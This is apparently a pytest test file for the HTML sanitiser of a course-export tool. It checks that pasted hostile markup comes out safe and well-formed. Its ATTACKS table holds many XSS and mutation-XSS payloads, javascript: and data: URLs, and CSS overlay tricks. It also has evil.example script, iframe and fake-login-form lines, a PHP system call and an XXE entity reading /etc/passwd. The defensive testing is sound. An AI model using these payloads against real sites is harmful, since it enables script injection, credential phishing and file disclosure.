"""Hostile HTML: whatever an author pastes, what comes out is safe, well-formed, and the same to every parser."""

from __future__ import annotations

import re

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from content.sample import Read, read, tree
from lmsexport.errors import Severity

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script-slash": "<script/xss>alert(1)</script>",
    "script-nested": "<scr<script>ipt>alert(1)</script>",
    "script-unclosed": "<script>alert(1)",
    "script-in-line": "see <script>alert(1)</script> this",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-slashes": "<img/src=`x`/onerror=alert(1)>",
    "img-newlines": "<img\nsrc=x\nonerror\n=\nalert(1)\n>",
    "img-javascript": '<img src="javascript:alert(1)">',
    "img-data-html": '<img src="data:text/html,<script>alert(1)</script>">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml,x#y"/></svg>',
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "math-href": '<math><mtext href="javascript:alert(1)">x</mtext></math>',
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-javascript-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-javascript-tab": '<a href="java&#9;script:alert(1)">x</a>',
    "a-javascript-newline": '<a href="java\nscript:alert(1)">x</a>',
    "a-javascript-entity": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "a-javascript-control": '<a href="&#1;javascript:alert(1)">x</a>',
    "a-data": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "markdown-javascript": "[x](javascript:alert(1))",
    "markdown-javascript-entity": "[x](javascript&#58;alert(1))",
    "markdown-data": "[x](data:text/html,alert(1))",
    "markdown-autolink": "<javascript:alert(1)>",
    "markdown-title": '[x](https://example.org "\\" onmouseover=alert(1) \\"")',
    "markdown-alt": '![" onerror=alert(1) "](images/loop.svg)',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style-tag": "<style>body { display: none }</style>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-fixed": '<div style="position:fixed;inset:0">x</div>',
    "style-fixed-escaped": '<div style="p\\6fsition:fixed">x</div>',
    "style-fixed-comment": '<div style="position/**/:fixed">x</div>',
    "style-url": '<div style="background-color:url(https://evil.example/p)">x</div>',
    "style-expression": '<div style="width:expression(alert(1))">x</div>',
    "style-negative-margin": '<div style="margin-top:-999px">x</div>',
    "style-in-quotes": "<div style='color:\"x;position:fixed;y\"'>x</div>",
    "class-of-the-lms": '<div class="position-fixed w-100 h-100">x</div>',
    "form": '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "video-onerror": "<video><source onerror=alert(1)></video>",
    "video-poster": '<video poster="javascript:alert(1)" src="clip.mp4"></video>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "math-mxss": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a(1)&gt;">',
    "svg-mxss": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "comment-mxss": "<!--><img src=x onerror=alert(1)>-->",
    "comment-bang": "<!--!><img src=x onerror=alert(1)>",
    "textarea-mxss": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "title-mxss": '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "processing-instruction": "<?php system('id'); ?>",
    "doctype-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "marked-section": "<![if IE]><img src=x onerror=alert(1)><![endif]>",
    "null-byte-entity": "<img src=x on&#0;error=alert(1)>",
    "control-entity": "<b>&#1;&#12;&#x1f;</b>",
    "attribute-name": '<b "onclick=alert(1)" <=x>y</b>',
    "close-our-tags": "</div></body></html><div>x",
    "forged-hole": '<a href="hole-0-">x</a> hole-0- $x$',
    "table-foster": "<table><div>moved</div><tr><td><script>alert(1)</script></td></tr></table>",
    "formula-markup": r"$\text{<img src=x onerror=alert(1)>}$",
    "formula-href": r"$\href{javascript:alert(1)}{x}$",
    "formula-style": r"$\style{position:fixed}{x}$",
    "code-fence-language": '```"><script>alert(1)</script>\nx\n```',
    "callout-label": "::: callout <img src=x onerror=alert(1)>\nx\n:::",
}

SAFE_TAGS = frozenset({
    "body", "a", "audio", "b", "blockquote", "br", "code", "details", "div", "em", "figcaption", "figure", "h1",
    "h2", "h3", "hr", "img", "li", "ol", "p", "pre", "s", "source", "span", "strong", "table", "tbody", "td", "th",
    "thead", "tr", "track", "ul", "video", "math", "semantics", "annotation", "mrow", "mi", "mo", "mn", "mtext",
    "mglyph",
})  # fmt: skip
SAFE_PROPERTIES = re.compile(
    r"margin|padding|border|(background-)?color|font|text-|list-style|overflow-x|(max-)?width|height"
)


def assert_safe(xhtml: str) -> None:
    """Judge a text by rules that share nothing with the sanitiser's."""
    for element in tree(xhtml).iter():
        tag = etree.QName(element).localname
        assert tag in SAFE_TAGS, tag
        for name, value in ((str(name), str(value)) for name, value in element.attrib.items()):
            assert not name.startswith("on"), name
            assert name not in ("srcdoc", "action", "formaction", "srcset"), name
            if name in ("href", "src", "poster"):
                assert re.match(r"(https?:|mailto:|media/|#|[a-z-]+\.html|\$ITEM\*|@@FILES@@/)", value), value
            if name == "style":
                assert not re.search(r"url|expression|@|\\|-\d|fixed|absolute|sticky", value), value
                assert all(SAFE_PROPERTIES.match(part.strip()) for part in value.split(";")), value
            if name == "class":
                assert "fixed" not in value, value


def as_a_browser_reads(xhtml: str) -> etree._Element:
    """The tree that an HTML parser builds, by the algorithm of the HTML standard."""
    tags = {str(element.tag) for element in tree(xhtml).iter()}
    names = {str(name) for element in tree(xhtml).iter() for name in element.attrib}
    html = nh3.clean(
        xhtml, tags=tags | {"script", "img"}, attributes={"*": names | {"onerror"}}, clean_content_tags=set(),
        url_schemes={"http", "https", "mailto"}, link_rel=None,
    )  # fmt: skip
    closed = re.sub(r"<(br|col|hr|img|source|track|wbr)\b([^>]*)>", r"<\1\2/>", html).replace("&nbsp;", "\u00a0")
    return tree(closed)


def assert_read_alike(seen: Read) -> None:
    """XML and HTML parsers agree on the text."""
    assert etree.tostring(as_a_browser_reads(seen.lms), method="c14n") == etree.tostring(tree(seen.lms), method="c14n")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_comes_out_safe_and_well_formed(attack: str) -> None:
    seen = read(attack)
    assert_safe(seen.page)
    assert_safe(seen.lms)
    assert_read_alike(seen)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_within_a_block_of_html_comes_out_safe_and_well_formed(attack: str) -> None:
    seen = read(f"<div>{attack}</div>\n\n<details>\n{attack}\n</details>")
    assert_safe(seen.page)
    assert_safe(seen.lms)
    assert_read_alike(seen)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_does_no_harm_to_the_text_around_it(attack: str) -> None:
    seen = read(f"Words before.\n\n::: callout Label\nIn the box.\n\n{attack}\n\n:::\n\nWords after.")
    assert_safe(seen.page)
    assert_safe(seen.lms)
    assert_read_alike(seen)
    assert "<p>Words before.</p>" in seen.page


HARMLESS = {
    "markdown-title", "markdown-alt", "control-entity", "comment-mxss", "comment-bang", "formula-markup",
    "attribute-name", "null-byte-entity", "code-fence-language", "close-our-tags", "script-slash",
    "img-onerror-slashes",
}  # fmt: skip
"""Attacks of which nothing is taken out: they come out as words, or were none."""


@pytest.mark.parametrize("name", [name for name in ATTACKS if name not in HARMLESS])
def test_what_is_taken_out_is_reported(name: str) -> None:
    assert read(ATTACKS[name]).notes


def test_a_report_names_what_is_taken_out_and_its_line() -> None:
    seen = read(
        "One.\n\nTwo <b onclick='x()'>bold</b>\nand <i style='color: navy; top: 0'>three</i>.\n\n<iframe></iframe>"
    )
    found = [(note.line, note.message.partition(": ")[2], note.severity) for note in seen.notes]
    assert found == [
        (2, "`onclick`", Severity.WARNING),
        (3, "style `top: 0`", Severity.WARNING),
        (5, "`<iframe>`", Severity.WARNING),
    ]
    assert '<i style="color: navy">three</i>' in seen.page


@pytest.mark.parametrize(
    "html",
    [
        "<kbd>Ctrl</kbd>",
        "<details><summary>More</summary>Text</details>",
        '<span lang="fr" dir="ltr">mot</span>',
        '<table><tr><th scope="row">a</th><td colspan="2" style="color: rgb(10, 20, 30)">b</td></tr></table>',
        "<ruby>漢<rt>kan</rt></ruby>",
        '<img src="images/loop.svg" alt="A loop" width="10" height="20">',
        "<!-- a note among authors -->",
        '<a href="item:critique">x</a>',
    ],
)
def test_harmless_html_stays_without_a_word(html: str) -> None:
    seen = read(f"Text\n\n{html}")
    assert seen.notes == []
    assert_read_alike(seen)


def test_empty_elements_keep_their_end_tags() -> None:
    assert "<td></td>" in read("<table><tr><td></td></tr></table>").page
    assert read("a<br>b").page == "<p>a<br/>b</p>"


def test_links_and_media_of_html_are_resolved() -> None:
    seen = read('<a href="critique.md#why">x</a> <video src="clip.mp4" poster="images/loop.svg" controls></video>')
    assert 'href="critique.html#to-why"' in seen.page
    assert 'src="media/01/clip.mp4"' in seen.page
    assert 'poster="media/01/images/loop.svg"' in seen.page
    assert read('<a href="nowhere.pdf">x</a>\n<img src="images/loop.svg">').codes == ["missing-file", "missing-alt"]


@pytest.mark.parametrize(
    "text",
    ["<div>" * 10_000 + "x", "<b>" * 5_000 + "x" + "</b>" * 5_000, "<table>" * 2_000, "<a href=x>" * 3_000],
    ids=["div", "b", "table", "a"],
)
def test_html_nested_without_end_is_refused(text: str) -> None:
    seen = read(text)
    assert "bad-html" in seen.codes
    assert_safe(seen.page)


TAGS = [
    "p", "div", "b", "i", "a", "table", "tr", "td", "ul", "li", "h2", "script", "style", "svg", "math", "select",
    "br", "img", "form", "details", "summary", "template", "noscript", "pre", "textarea", "title", "x-y", "blockquote",
]  # fmt: skip
SCRAPS = [
    "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", '"', "'", ">", "<", "&lt;", "&#x3c;", "\n\n", "\n", " ", "=",
    '<a href="', '<p title="', "<img src=x onerror=", "alert(1)", "style=", "position:fixed", "*", "`",
    "::: callout\n", ":::\n", "$x$", "[a](b)", "hole-0-",
]  # fmt: skip
PIECES = st.one_of(
    st.sampled_from([*(f"<{tag}>" for tag in TAGS), *(f"</{tag}>" for tag in TAGS), *SCRAPS]),
    st.text(max_size=5, alphabet=st.characters(exclude_categories=["Cs", "Cc"])),
)


@settings(deadline=None)
@given(st.lists(PIECES, max_size=25))
def test_any_heap_of_tags_comes_out_safe_and_well_formed(pieces: list[str]) -> None:
    seen = read("".join(pieces).replace("\ufffe", "").replace("\uffff", ""))
    for element in tree(seen.page).iter():
        assert not any(str(name).startswith("on") for name in element.attrib)
        assert etree.QName(element).localname not in ("script", "style", "svg", "form", "iframe", "template")
    if not any(note.severity is Severity.ERROR for note in seen.notes):  # else nothing is written
        assert_read_alike(seen)
